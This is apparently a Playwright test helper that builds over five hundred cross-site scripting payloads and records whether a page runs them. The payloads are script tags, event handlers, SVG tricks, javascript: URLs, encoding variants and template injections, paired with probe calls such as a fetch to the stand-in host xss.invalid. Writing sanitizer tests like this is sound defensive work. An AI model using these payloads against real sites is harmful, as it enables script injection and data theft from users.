import type { Page } from 'playwright-core';

/** Calls that each hostile text tries to make: a page that runs one of them counts it (see `watchForHits`). */
const CALLS = ['__xss()', 'alert(1)', 'top.__xss()', "fetch('//xss.invalid/')", 'parent["__xss"]()'];

/** Ways in which pages were made to run a call: `@` stands for it. All written here. */
const TRICKS = [
  // Tags.
  '<script>@</script>',
  '<SCRIPT>@</ScRiPt>',
  '<script >@</script\t>',
  '<script src=//xss.invalid/a.js></script><!-- @ -->',
  '<scr<script>ipt>@</scr</script>ipt>',
  '"><script>@</script>',
  "'><script>@</script>",
  '</script><script>@</script>',
  '</title><script>@</script>',
  '</textarea><script>@</script>',
  '</style><script>@</script>',
  '--><script>@</script>',
  ']]><script>@</script>',
  '<script type=module>@</script>',
  '<noscript><p title="</noscript><script>@</script>">',
  // Handlers.
  '<img src=x onerror=@>',
  '<img src=x onerror="@"//',
  '<img/src=x/onerror=@>',
  '<img src=x:x onerror\n=\n"@">',
  '<image href=x onerror=@>',
  '<body onload=@>',
  '<video><source onerror=@>',
  '<audio src=x onerror=@>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<textarea autofocus onfocus=@>',
  '<details open ontoggle=@>',
  '<marquee onstart=@>x</marquee>',
  '<div onpointerenter=@ style=position:fixed;inset:0>x</div>',
  '<a href=# onmouseover=@>x</a>',
  '<button popovertarget=x onclick=@>x</button>',
  '<x contenteditable onblur=@ tabindex=1 id=x>',
  '<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=@>',
  '" onmouseover="@" x="',
  "' autofocus onfocus='@' x='",
  '` onerror=@ `',
  // SVG and MathML.
  '<svg onload=@>',
  '<svg/onload=@>',
  '<svg><script>@</script></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onend=@ attributeName=x dur=1ms>',
  '<svg><a xlink:href="javascript:@"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=@></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=@>#x"></svg>',
  '<math><mtext></p><img src=x onerror=@>',
  '<math href="javascript:@">x</math>',
  // Frames and objects.
  '<iframe src="javascript:@"></iframe>',
  '<iframe srcdoc="<script>@</script>"></iframe>',
  '<object data="javascript:@"></object>',
  '<embed src="javascript:@">',
  '<base href="javascript:/@//">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<link rel=stylesheet href="//xss.invalid/@.css">',
  '<form action="javascript:@"><button>x</button></form>',
  '<button formaction="javascript:@">x</button>',
  // Addresses.
  'javascript:@',
  'JaVaScRiPt:@',
  'java\tscript:@',
  'javascript&colon;@',
  'javascript://example.org/%0a@',
  'https://example.org/" onclick="@',
  "https://example.org/'onmouseover='@",
  'https://example.org/<img src=x onerror=@>',
  'https://javascript:@@example.org/',
  'data:text/html,<script>@</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+ @',
  'vbscript:@',
  'blob:@',
  '[click](javascript:@)',
  '![x](x" onerror="@)',
  '<javascript:@>',
  '[x]: javascript:@ "x"',
  '**<img src=x onerror=@>**',
  // Entities and other spellings.
  '&lt;script&gt;@&lt;/script&gt;',
  '&amp;lt;img src=x onerror=@&amp;gt;',
  '&#60;script&#62;@&#60;/script&#62;',
  '&#x3c;img src=x onerror=@&#x3e;',
  '%3Cscript%3E@%3C/script%3E',
  '%253Cimg%2520src=x%2520onerror=@%253E',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=@\\x3e',
  '\u2028<script>@</script>\u2029',
  '＜script＞@＜/script＞',
  '‹img src=x onerror=@›',
  '<\u0000script>@</script>',
  '<img src=x onerror=@\u200b>',
  '\u202e<script>@</script>\u202c',
  '\u2066<img src=x onerror=@>\u2069',
  '\ufeff<svg onload=@>',
  'a\u0301<img src=x onerror=@>\ud83d',
  // Templates, styles and scripts that a text may be put into.
  '{{constructor.constructor("@")()}}',
  '${@}',
  '#{@}',
  '<%= @ %>',
  '{% @ %}',
  '{{{@}}}',
  '";@;//',
  "';@;//",
  '`;@;//',
  '\\";@;//',
  '*/@/*',
  '</script>{"@":1}',
  '{"__proto__":{"html":"<img src=x onerror=@>"}}',
  '__proto__ constructor @',
  'x;background:url(javascript:@)',
  '}*{background:url(//xss.invalid/@)}',
  "expression(@) url('//xss.invalid/')",
  '<p style="background:url(//xss.invalid/@)">x</p>',
];

/** Five hundred texts and some more, each another, that would run something in a page which took them for more than text. */
export const HOSTILE: readonly string[] = TRICKS.flatMap((trick) => CALLS.map((call) => trick.replaceAll('@', call)));

/**
 * Counts what a page runs that it should not: calls of the texts, dialogs, questions to the host that they name, and
 * whatever its policy had to stop. Call it before the page is opened.
 */
export async function watchForHits(page: Page): Promise<readonly string[]> {
  const hits: string[] = [];
  await page.exposeFunction('__xss', () => void hits.push('a call'));
  await page.exposeFunction('__stopped', (policy: string) => void hits.push(`stopped by the policy: ${policy}`));
  await page.addInitScript(() =>
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
      (globalThis as unknown as { __stopped(policy: string): void }).__stopped(`${violatedDirective} ${blockedURI}`),
    ),
  );
  page.on('dialog', (dialog) => {
    hits.push('a dialog');
    void dialog.dismiss();
  });
  page.on('request', (request) => new URL(request.url()).hostname === 'xss.invalid' && hits.push(request.url()));
  page.on('popup', () => hits.push('a window'));
  return hits;
}
